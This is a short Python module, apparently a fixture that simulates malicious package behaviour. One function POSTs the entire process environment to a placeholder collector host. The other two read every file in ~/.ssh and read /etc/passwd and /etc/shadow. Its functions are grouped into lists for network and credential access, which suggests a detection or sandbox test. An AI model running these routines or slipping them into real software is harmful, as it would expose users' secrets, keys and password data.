import http.client
import json
import os


def send_https_post_request(called_from):
    host = "collector.example.invalid"
    conn = http.client.HTTPSConnection(host)
    data = {"text": f"from {called_from}: {os.environ}"}
    conn.request("POST", "/post", json.dumps(data), headers={"Host": host})
    conn.getresponse()


def access_ssh_keys(called_from):
    folder = os.path.join(os.path.expanduser("~"), ".ssh")
    if os.path.isdir(folder):
        for name in os.listdir(folder):
            with open(os.path.join(folder, name)) as handle:
                handle.read()


def access_passwords(called_from):
    for path in ("/etc/passwd", "/etc/shadow"):
        if os.path.isfile(path):
            with open(path) as handle:
                handle.readlines()


https_functions = [send_https_post_request]
access_credentials_functions = [access_ssh_keys, access_passwords]
